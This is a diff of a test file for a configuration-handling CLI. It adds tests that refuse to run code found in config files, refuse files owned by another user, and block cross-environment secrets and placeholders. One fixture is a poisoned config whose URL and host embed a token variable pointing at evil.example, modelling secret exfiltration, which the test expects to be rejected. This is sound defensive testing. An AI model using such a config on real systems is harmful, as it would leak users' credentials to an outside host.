@@ -1,6 +1,6 @@
-import { chmodSync, mkdirSync, statSync, writeFileSync } from 'node:fs';
+import { chmodSync, chownSync, existsSync, mkdirSync, readFileSync, statSync, writeFileSync } from 'node:fs';
 import path from 'node:path';
-import { expect, test, vi } from 'vitest';
+import { describe, expect, test, vi } from 'vitest';
 import { temporaryFolder } from '../temp-folder.ts';
 import { runCli } from './harness.ts';
 
@@ -134,17 +134,28 @@ test('the project file goes before the user file, and its shared value before th
   expect(settings.find(({ name }) => name === 'viewId')).toMatchObject({ value: 'from-user', origin: user });
 });
 
-test('nothing that is found is run, whatever its name', async () => {
-  const [home, folder] = [temporaryFolder(), temporaryFolder()];
-  const code = 'process.env.BRCTL_TEST_RAN = "yes"; module.exports = { catalog: "by-code" };\n';
-  mkdirSync(path.join(folder, '.config'));
-  for (const name of ['.config/config.js', '.config/config.cjs', '.brctlrc.js', '.brctlrc.cjs'])
-    writeFileSync(path.join(folder, name), code);
-  for (const name of ['config.js', 'config.cjs', 'config.mjs']) userFile(home, name, code);
+const CODE = 'process.env.BRCTL_TEST_RAN = "yes"; module.exports = { catalog: "by-code" };\n';
+
+/** Runs in a folder as the process does. */
+async function inFolder<T>(folder: string, home: string, work: () => Promise<T>): Promise<T> {
   const before = process.cwd();
   process.chdir(folder);
   vi.stubEnv('HOME', home);
   try {
+    return await work();
+  } finally {
+    process.chdir(before);
+    vi.unstubAllEnvs();
+  }
+}
+
+test('nothing that is found is run, whatever its name', async () => {
+  const [home, folder] = [temporaryFolder(), temporaryFolder()];
+  for (const name of ['.brctlrc.js', '.brctlrc.cjs', '.brctlrc.ts'])
+    writeFileSync(path.join(folder, name), CODE);
+  for (const name of ['config.js', 'config.cjs', 'config.mjs']) userFile(home, name, CODE);
+  writeFileSync(path.join(folder, 'package.json'), '{"cosmiconfig":{"searchPlaces":[".brctlrc.js"]}}');
+  await inFolder(folder, home, async () => {
     const run = await runCli(['config', 'show', '--json'], { cwd: folder, home });
     const { files, settings } = run.json<Shown & { files: string[] }>();
     expect(files).toEqual([]);
@@ -152,10 +163,173 @@ test('nothing that is found is run, whatever its name', async () => {
     const named = await runCli(['config', 'show', '--config', '.brctlrc.js'], { cwd: folder, home });
     expect(named.exitCode).toBe(3);
     expect(process.env.BRCTL_TEST_RAN).toBeUndefined();
-  } finally {
-    process.chdir(before);
-    vi.unstubAllEnvs();
+  });
+});
+
+test.each(['js', 'cjs', 'mjs', 'ts'])(
+  'code that the search for a configuration would run is refused: .config/config.%s',
+  async (ending) => {
+    const [home, folder] = [temporaryFolder(), temporaryFolder()];
+    mkdirSync(path.join(folder, '.config'));
+    writeFileSync(path.join(folder, `.config/config.${ending}`), CODE);
+    write(folder, 'catalog: found\n');
+    await inFolder(folder, home, async () => {
+      for (const argv of [[], ['--config', '.brctlrc']]) {
+        const run = await runCli(['config', 'show', '--json', ...argv], { cwd: folder, home });
+        expect([run.exitCode, JSON.parse(run.stderr).error.code]).toEqual([3, 'config.code_in_folder']);
+      }
+      expect(process.env.BRCTL_TEST_RAN).toBeUndefined();
+    });
+  },
+);
+
+describe('a file that belongs to another user', () => {
+  const foreign = { isOwnUser: () => false };
+
+  test('is refused, with both ways to allow it', async () => {
+    const folder = temporaryFolder();
+    const file = write(folder, 'catalog: theirs\n');
+    const below = path.join(folder, 'below');
+    mkdirSync(below);
+    const run = await runCli(['config', 'show', '--json'], { cwd: below, ...foreign });
+    const { error } = JSON.parse(run.stderr);
+    expect([run.exitCode, run.stdout, error.code, error.file]).toEqual([3, '', 'config.other_owner', file]);
+    expect(error.hint).toContain(`export BRCTL_TRUSTED_FOLDERS=${folder}`);
+    for (const trusted of [folder, `/elsewhere:${folder}`, '*']) {
+      const env = { BRCTL_TRUSTED_FOLDERS: trusted };
+      const allowed = await runCli(['config', 'show', '--json'], { cwd: below, env, ...foreign });
+      expect(allowed.stdout).toContain('theirs');
+    }
+    const named = await runCli(['config', 'show', '--json', '--config', file], { cwd: below, ...foreign });
+    expect(named.stdout).toContain('theirs');
+  });
+
+  test('is refused by serve too, which reads a section of it', async () => {
+    const folder = temporaryFolder();
+    write(folder, 'serve: {log: human}\n');
+    const run = await runCli(['serve', '--memory', '--exec', 'true'], { cwd: folder, ...foreign });
+    expect([run.exitCode, run.stderr]).toEqual([3, expect.stringContaining('config.other_owner')]);
+  });
+
+  test.skipIf(process.geteuid?.() !== 0)('is told by its owner (needs root)', async () => {
+    const folder = temporaryFolder();
+    chownSync(write(folder, 'catalog: theirs\n'), 65_534, 65_534);
+    const run = await runCli(['config', 'show'], { cwd: folder });
+    expect([run.exitCode, run.stderr]).toEqual([3, expect.stringContaining('65534')]);
+  });
+});
+
+describe('an address with a variable in it', () => {
+  const poison = 'catalogUrl: http://evil.example/${TOKEN}\nsftpHost: ${TOKEN}.evil.example\n';
+  const env = { TOKEN: 'canary-token-95' };
+
+  test('is refused from a file outside the home folder and the repository worked in', async () => {
+    const folder = temporaryFolder();
+    write(folder, poison);
+    const below = path.join(folder, 'project', 'a');
+    mkdirSync(path.join(folder, 'project', '.git'), { recursive: true });
+    mkdirSync(below);
+    for (const argv of [[], ['--config', path.join(folder, '.brctlrc')]]) {
+      const run = await runCli(['config', 'show', '--json', ...argv], {
+        cwd: below,
+        home: temporaryFolder(),
+        env,
+      });
+      expect([run.exitCode, JSON.parse(run.stderr).error.code]).toEqual([3, 'config.far_reference']);
+      expect(run.stdout + run.stderr).not.toContain('canary');
+    }
+  });
+
+  test('is taken from the home folder, the repository worked in, and the working folder', async () => {
+    const folder = temporaryFolder();
+    write(folder, 'catalogUrl: http://shop.example/${TOKEN}\n');
+    const below = path.join(folder, 'a', 'b');
+    mkdirSync(below, { recursive: true });
+    const urlFrom = async (cwd: string, home: string) => {
+      const run = await runCli(['config', 'show', '--json'], { cwd, home, env: { TOKEN: 'eu' } });
+      return run.json<Shown>().settings.find(({ name }) => name === 'catalogUrl')?.value;
+    };
+    expect(await urlFrom(below, folder)).toBe('http://shop.example/eu');
+    expect(await urlFrom(folder, temporaryFolder())).toBe('http://shop.example/eu');
+    mkdirSync(path.join(folder, '.git'));
+    expect(await urlFrom(below, temporaryFolder())).toBe('http://shop.example/eu');
+  });
+});
+
+describe('variables of one environment where another is asked for', () => {
+  const block = {
+    BRCTL_ENV: 'local',
+    BRCTL_CATALOG_URL: 'http://127.0.0.1:4747/dataconnect/api/v1',
+    BRCTL_API_KEY: 'canary-key-96',
+  };
+
+  test.each([
+    [block, ['BRCTL_CATALOG_URL', 'BRCTL_API_KEY']],
+    [{ BRCTL_ENV: 'staging', BRCTL_ACCOUNT_ID: '1' }, ['BRCTL_ACCOUNT_ID']],
+    [{ BRCTL_ENV: 'staging', BRCTL_AUTH_KEY_FILE: '/k' }, ['BRCTL_AUTH_KEY_FILE']],
+  ])('%j is an error that names them, before anything is sent', async (env, variables) => {
+    for (const command of [['config', 'show'], ['doctor'], ['search', 'x'], ['index']]) {
+      const run = await runCli([...command, '-e', 'production', '--json'], { env });
+      const { error } = JSON.parse(run.stderr);
+      expect([run.exitCode, run.stdout, error.code]).toEqual([3, '', 'config.other_environment']);
+      expect(error.variables).toEqual(variables);
+      expect(error.hint).toBe(`unset BRCTL_ENV ${variables.join(' ')}`);
+      expect(run.stderr).not.toContain('canary');
+    }
+  });
+
+  test('what belongs to no environment goes with any', async () => {
+    const env = { BRCTL_ENV: 'local', BRCTL_TIMEOUT: '5s', BRCTL_MAX_RETRIES: '1' };
+    expect((await runCli(['config', 'show', '-e', 'production'], { env })).exitCode).toBe(0);
+    expect((await runCli(['config', 'show', '-e', 'local'], { env: block })).exitCode).toBe(0);
+    expect((await runCli(['config', 'show'], { env: block })).exitCode).toBe(0);
+  });
+
+  test('keys without a name belong to what is asked for; addresses do too, and a warning says so', async () => {
+    const keys = await runCli(['config', 'show', '-e', 'production'], {
+      env: { BRCTL_API_KEY: 'canary-97' },
+    });
+    expect([keys.exitCode, keys.stderr]).toEqual([0, '']);
+    const env = { BRCTL_CATALOG_URL: block.BRCTL_CATALOG_URL };
+    const address = await runCli(['config', 'show', '-e', 'production'], { env });
+    expect([address.exitCode, address.stderr]).toEqual([
+      0,
+      expect.stringMatching(/^warning: BRCTL_CATALOG_URL goes before the configured address of production/),
+    ]);
+  });
+});
+
+test('that no local service runs is said so, not what it would have told', async () => {
+  const nothing = await runCli(['search', 'lamp', '--json']);
+  expect([nothing.exitCode, JSON.parse(nothing.stderr).error]).toMatchObject([
+    3,
+    { code: 'config.no_local_service', message: 'no local service is running' },
+  ]);
+  const env = {
+    BRCTL_ACCOUNT_ID: '1',
+    BRCTL_CATALOG: 'c',
+    BRCTL_AUTH_KEY: 'canary-98',
+    BRCTL_SEARCH_URL: 'http://127.0.0.1:9/api/v1/core/',
+  };
+  const ended = await runCli(['search', 'lamp', '--max-retries', '0'], { env });
+  expect([ended.exitCode, ended.stderr]).toEqual([7, expect.stringContaining('no local service is running')]);
+});
+
+test.each([
+  ['catalog: YOUR_CATALOG\naccountId: "1"\n', 'catalog'],
+  ['catalog: c\naccountId: YOUR_ACCOUNT_ID\n', 'accountId'],
+  ['catalog: c\naccountId: "1"\ncatalogUrl: https://YOUR_HOST/dataconnect/api/v1\n', 'catalogUrl'],
+])('a placeholder never reaches a request, nor a dry run: %j', async (text, setting) => {
+  const folder = temporaryFolder();
+  write(folder, `environment: staging\napiKey: canary-99\n${text}`);
+  writeFileSync(path.join(folder, 'd.jsonl'), '{"op":"remove","path":"/products/1"}\n');
+  for (const argv of [['index'], ['submit', 'd.jsonl', '--dry-run'], ['push', 'd.jsonl', '--dry-run']]) {
+    const run = await runCli([...argv, '--json'], { cwd: folder });
+    const { error } = JSON.parse(run.stderr.trim().split('\n').at(-1) ?? '');
+    expect([run.exitCode, error.code, error.setting]).toEqual([3, 'config.placeholder', setting]);
   }
+  const shown = (await show(folder))(setting);
+  expect(shown).toMatchObject({ value: null, origin: expect.stringContaining('YOUR_') });
 });
 
 test.each([
@@ -309,7 +483,29 @@ test('init for an environment of your own asks for its addresses', async () => {
   expect((await runCli(['init', 'qa'], { cwd: folder })).exitCode).toBe(0);
   const settings = await show(folder, [], { QA_API_KEY: 'canary-a', QA_AUTH_KEY: 'canary-b' });
   expect(settings('environment')?.value).toBe('qa');
-  expect(settings('catalogUrl')?.value).toContain('YOUR_HOST');
+  expect(settings('catalogUrl')).toMatchObject({ value: null, origin: expect.stringContaining('YOUR_HOST') });
+});
+
+test.each(['foo/bar', '../x', '', 'a b', '-x y'])(
+  'init refuses %j as the name of an environment',
+  async (name) => {
+    const folder = temporaryFolder();
+    const run = await runCli(['init', '--', name], { cwd: folder });
+    expect([run.exitCode, run.stderr]).toEqual([2, expect.stringContaining('usage.bad_environment')]);
+    expect(existsSync(path.join(folder, '.brctlrc'))).toBe(false);
+  },
+);
+
+test('init asks a person for what is missing, and nobody with --no-input or --json', async () => {
+  const answered = async (...flags: string[]) => {
+    const folder = temporaryFolder();
+    const options = { cwd: folder, stdin: '6702\nproducts_en\n', terminalColumns: 80, stdinIsTerminal: true };
+    expect((await runCli(['init', ...flags], options)).exitCode).toBe(0);
+    return readFileSync(path.join(folder, '.brctlrc'), 'utf8');
+  };
+  expect(await answered()).toMatch(/catalog: "products_en"[\s\S]*accountId: "6702"/);
+  expect(await answered('--account-id', '6703')).toMatch(/catalog: "6702"[\s\S]*accountId: "6703"/);
+  for (const flag of ['--no-input', '--json']) expect(await answered(flag)).toContain('YOUR_CATALOG');
 });
 
 test.each([[['diff', 'a.jsonl', 'a.jsonl']], [['validate', 'a.jsonl']], [['jobs']], [['push', 'a.jsonl']]])(
